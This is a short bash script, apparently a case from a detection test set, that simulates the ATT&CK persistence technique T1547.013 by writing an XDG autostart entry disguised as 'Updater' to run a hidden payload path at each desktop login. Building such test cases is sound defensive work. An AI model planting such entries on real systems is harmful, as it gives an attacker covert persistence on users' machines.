#!/usr/bin/env bash
# attack: T1547.013 An XDG autostart entry that runs a payload at each desktop login
# set: unseen
. "$(dirname "$0")/lib/common.sh"
mkhome
mkdir -p "$HOME/.config/autostart"
printf '[Desktop Entry]\nType=Application\nName=Updater\nExec=%s/.cache/upd\nHidden=false\n' "$HOME" >"$HOME/.config/autostart/updater.desktop"
